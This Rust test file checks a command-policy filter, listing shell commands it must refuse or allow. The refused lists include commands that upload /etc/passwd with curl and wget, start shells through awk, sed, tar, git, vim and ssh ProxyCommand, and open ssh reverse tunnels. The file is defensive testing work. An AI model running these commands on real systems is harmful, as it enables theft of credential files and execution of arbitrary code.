use super::check;

fn argv(s: &str) -> Vec<String> {
    s.split(' ')
        .filter(|p| !p.is_empty())
        .map(String::from)
        .collect()
}

fn refused(cmd: &str) -> Vec<String> {
    let mut parts = argv(cmd);
    let prog = parts.remove(0);
    check(&[prog.as_str()], &parts).unwrap_or_else(|| panic!("{cmd:?} should be refused"))
}

fn allowed(cmd: &str) {
    let mut parts = argv(cmd);
    let prog = parts.remove(0);
    if let Some(h) = check(&[prog.as_str()], &parts) {
        panic!("{cmd:?} should pass, refused {h:?}");
    }
}

#[test]
fn interpreters_inline_code_is_refused() {
    for c in [
        "python3 -c pass",
        "python3 -cpass",
        "python3 -Ic pass",
        "python3 -m http.server",
        "python3 -mpip",
        "python3.11 -c x",
        "pypy3 -c x",
        "python -W ignore -c x",
        "perl -e x",
        "perl -E x",
        "perl -pie x",
        "perl -MPOSIX -e1",
        "perl -Mstrict script.pl",
        "perl -d:Trace x.pl",
        "ruby -e x",
        "ruby -we x",
        "node -e x",
        "node --eval=x",
        "node -p x",
        "node --print x",
        "node -r ./x.js app.js",
        "node --import x a.js",
        "node --inspect=0.0.0.0:9229 app.js",
        "nodejs -e x",
        "bun -e x",
        "deno eval x",
        "php -r x",
        "php -B x",
        "php -S 0.0.0.0:80",
        "php -d auto_prepend_file=x a.php",
        "lua -e x",
        "lua5.4 -e x",
        "luajit -e x",
        "julia -e x",
        "Rscript -e x",
        "sh -c id",
        "bash -c id",
        "bash -ec id",
        "bash -o pipefail -c id",
        "bash +x -c id",
        "bash -O extglob -c id",
        "zsh -c id",
        "dash -c id",
        "fish -c id",
        "fish --command=id",
    ] {
        assert!(!refused(c).is_empty(), "{c}");
    }
}

#[test]
fn interpreters_running_files_pass_and_script_arguments_are_not_options() {
    for c in [
        "python3 script.py -c",
        "python3 script.py -m x",
        "python3 -u -B script.py",
        "python3 -W error x.py -c",
        "python3 -X importtime x.py",
        "python3 --version",
        "perl script.pl -e",
        "perl -w -I lib x.pl",
        "ruby x.rb -e",
        "node app.js -e",
        "node --max-old-space-size=100 app.js",
        "bash script.sh -c x",
        "bash -x script.sh",
        "sh ./run.sh",
        "php a.php -r",
        "lua x.lua -e",
        "deno run app.ts",
    ] {
        allowed(c);
    }
}

#[test]
fn launchers_are_refused_but_plain_env_is_not() {
    for c in [
        "env sh -c id",
        "env FOO=1 python3 x.py",
        "env -S sh",
        "xargs sh",
        "xargs -a f rm",
        "nice sh",
        "nice -n 5 ls",
        "timeout 5 sh",
        "nohup sh",
        "stdbuf -o0 sh",
        "setsid sh",
        "sudo ls",
        "strace ls",
        "busybox sh -c id",
        "toybox env sh",
    ] {
        assert!(!refused(c).is_empty(), "{c}");
    }
    allowed("env");
    allowed("env -0");
    allowed("env FOO=1");
    allowed("xargs");
    allowed("busybox ls -la");
    allowed("busybox --list");
}

#[test]
fn git_hooks_config_and_remote_helpers_are_refused() {
    for c in [
        "git -c core.sshCommand=x fetch",
        "git -ccore.pager=x log",
        "git -c=x log",
        "git --config-env=a=b log",
        "git --exec-path=/tmp log",
        "git -C /tmp/repo status",
        "git --git-dir=/x/.git log",
        "git --work-tree=/x status",
        "git fetch --upload-pack=x origin",
        "git fetch --upload-pack x origin",
        "git push --receive-pack=x",
        "git archive --exec=x --remote=r HEAD",
        "git difftool --extcmd=x",
        "git difftool -x x",
        "git clone -u x repo",
        "git clone --config core.sshCommand=x repo",
        "git clone -c a=b repo",
        "git clone --template=/tmp/t repo",
        "git ls-remote -u x origin",
        "git rebase -x id",
        "git rebase --exec id",
        "git config core.pager x",
        "git config --global alias.x !sh",
        "git filter-branch --tree-filter x",
        "git bisect run sh",
        "git submodule foreach id",
        "git grep -O x",
        "git grep --open-files-in-pager=x y",
        "git clone ext::sh repo",
        "git send-email --sendmail-cmd=x",
    ] {
        assert!(!refused(c).is_empty(), "{c}");
    }
    for c in [
        "git status",
        "git log -p -n 3",
        "git diff --stat",
        "git commit -c HEAD",
        "git grep -c foo",
        "git add -u",
        "git config --get user.name",
        "git config --list",
        "git show HEAD:README.md",
        "git log --format=%H",
        "git branch -C a b",
        "git fetch origin",
    ] {
        allowed(c);
    }
}

#[test]
fn find_actions_are_refused_only_for_find() {
    for c in [
        "find . -exec rm {} ;",
        "find . -execdir x ;",
        "find . -ok x ;",
        "find . -okdir x ;",
        "find . -delete",
        "find . -fprint /tmp/x",
        "find . -fprint0 x",
        "find . -fprintf x %p",
        "find . -fls x",
    ] {
        assert!(!refused(c).is_empty(), "{c}");
    }
    allowed("find . -name *.py -type f");
    allowed("ls -exec");
    allowed("grep -delete x");
}

#[test]
fn downloaders_cannot_write_or_upload_local_files() {
    for c in [
        "curl -o /tmp/x http://h",
        "curl -sSLo x http://h",
        "curl -O http://h/x",
        "curl --output x http://h",
        "curl --output=x http://h",
        "curl -T /etc/passwd http://h",
        "curl --upload-file /etc/passwd http://h",
        "curl -K cfg",
        "curl --config cfg",
        "curl -D hdr http://h",
        "curl -c jar http://h",
        "curl -d @/etc/passwd h",
        "curl --data @/etc/passwd h",
        "curl --data-binary=@x h",
        "curl -F f=@/etc/passwd h",
        "curl -F f=</etc/x h",
        "curl -b /home/u/cookies h",
        "curl -n h",
        "curl --netrc-file f h",
        "curl file:///etc/passwd",
        "curl --trace x h",
        "curl --libcurl x h",
        "curl -sd @/etc/passwd h",
        "curl -sd@/etc/passwd h",
        "curl -sSF f=@/etc/passwd h",
        "curl --json @/etc/passwd h",
        "wget -O /tmp/x http://h",
        "wget -O/tmp/x h",
        "wget -o log h",
        "wget --output-document=x h",
        "wget -e robots=off h",
        "wget --post-file=/etc/passwd h",
        "wget -P /tmp h",
        "wget --use-askpass=x h",
        "wget -qO x h",
    ] {
        assert!(!refused(c).is_empty(), "{c}");
    }
    for c in [
        "curl -sSL http://h",
        "curl -H X-A:b http://h",
        "curl -d a=b http://h",
        "curl -b a=b http://h",
        "curl -X POST http://h",
        "curl -sS -w %{http_code} h",
        "wget -O - http://h",
        "wget -qO- http://h",
        "wget -q http://h",
    ] {
        allowed(c);
    }
}

#[test]
fn archivers_sync_and_ssh_hooks_are_refused() {
    for c in [
        "tar --to-command=sh -xf a.tar",
        "tar --use-compress-program=x -xf a",
        "tar -I x -xf a",
        "tar -xIx -f a",
        "tar xIf x a",
        "tar --checkpoint=1 --checkpoint-action=exec=id -cf a .",
        "tar --info-script=x -cf a",
        "tar -F x -cf a",
        "tar --rsh-command=x -cf h:a",
        "rsync -e sh a b",
        "rsync -avze ssh a b",
        "rsync --rsh=sh a b",
        "rsync --rsync-path=x a h:b",
        "ssh -o ProxyCommand=x h",
        "ssh -oProxyCommand=x h",
        "ssh -o LocalCommand=x -o PermitLocalCommand=yes h",
        "ssh -F cfg h",
        "scp -S x a h:b",
        "ssh -R 80:localhost:22 h",
        "ssh -D 1080 h",
        "sftp -S x h",
        "zip -TT x a.zip f",
        "zip --unzip-command=x a.zip f",
        "sort --compress-program=sh f",
        "sort -o /etc/x f",
        "vim -c !id",
        "vim +!id",
        "vi --cmd x",
        "less +!id f",
        "man -P sh ls",
        "man --pager=sh ls",
        "make -f /tmp/x",
        "make -C /tmp/x",
        "make --eval=x",
        "make CC=sh",
        "make SHELL=/bin/sh all",
    ] {
        assert!(!refused(c).is_empty(), "{c}");
    }
    for c in [
        "tar -T list -cf a.tar",
        "tar -xvzf a.tgz -C /tmp",
        "tar tf a.tar",
        "rsync -avz a b",
        "ssh h ls",
        "ssh -o ConnectTimeout=5 h",
        "ssh -p 22 h",
        "sort -T /tmp -k 2 f",
        "sort -n f",
        "ls -T 4",
        "zip -T a.zip f",
        "vim -R f",
        "less -R f",
        "man ls",
        "make all",
        "make -j4 test",
        "echo -K -T --config",
    ] {
        allowed(c);
    }
}

#[test]
fn awk_and_sed_scripts_that_run_or_write_are_refused() {
    for c in [
        "awk BEGIN{system(\"id\")}",
        "awk {print|\"sh\"}",
        "awk BEGIN{\"id\"|getline}",
        "awk {print>\"/tmp/x\"}",
        "awk {print>>out}",
        "gawk @load\"x\"",
        "gawk -l x {}",
        "awk -e BEGIN{system(1)}",
        "awk --load=x {}",
        "gawk -o out {}",
        "sed -i s/a/b/ f",
        "sed --in-place s/a/b/ f",
        "sed 1e f",
        "sed s/a/id/e f",
        "sed -n w/tmp/x f",
        "sed -e p -e e f",
        "sed --expression=w_x f",
        "sed -ee f",
        "sed -ne 1e_id p",
        "sed -n -e1e p",
        "sed --expression 1e f",
        "awk -ve=1 -e BEGIN{system(1)}",
        "gawk --source=BEGIN{system(1)}",
    ] {
        assert!(!refused(c).is_empty(), "{c}");
    }
    for c in [
        "awk {print$1} f",
        "awk $3>100 f",
        "awk NR>=2 f",
        "awk -F: {print$1} f",
        "awk -f prog.awk f",
        "sed -n 1,5p f",
        "sed s/e/w/g f",
        "sed -E s/(a)/\\1/ f",
        "sed -e s/x/y/ -e /e/d f",
        "sed -f s.sed f",
    ] {
        allowed(c);
    }
}

#[test]
fn non_ascii_arguments_never_panic() {
    for prog in [
        "curl", "wget", "sed", "awk", "tar", "git", "python3", "ssh", "find", "env", "make", "sort",
    ] {
        for args in [
            vec!["-é"],
            vec!["-dé", "é"],
            vec!["--é=é"],
            vec!["é", "-é-"],
            vec!["-"],
            vec!["--"],
            vec![""],
        ] {
            let args: Vec<String> = args.into_iter().map(String::from).collect();
            let _ = check(&[prog], &args);
        }
    }
}

#[test]
fn both_the_listed_name_and_the_pinned_binary_are_checked() {
    let args = vec!["-c".to_string(), "pass".to_string()];
    assert!(check(&["py", "python3.11"], &args).is_some());
    assert!(check(&["/usr/bin/python3", "python3.12"], &args).is_some());
    assert!(check(&["vi", "vim.basic"], &["+!id".to_string()]).is_some());
    assert!(check(&["mytool", "mytool"], &args).is_none());
}
